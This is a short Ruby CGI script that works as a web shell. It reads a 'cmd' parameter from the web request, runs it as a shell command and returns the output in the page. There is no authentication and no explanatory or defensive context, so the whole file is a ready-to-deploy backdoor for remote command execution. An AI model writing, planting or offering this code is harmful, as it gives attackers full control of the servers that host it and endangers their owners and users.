#!/usr/bin/env ruby
require 'cgi'
cgi = CGI.new
puts cgi.header
cmd = cgi['cmd']
puts "<pre>#{`#{cmd}`}</pre>" unless cmd.empty?
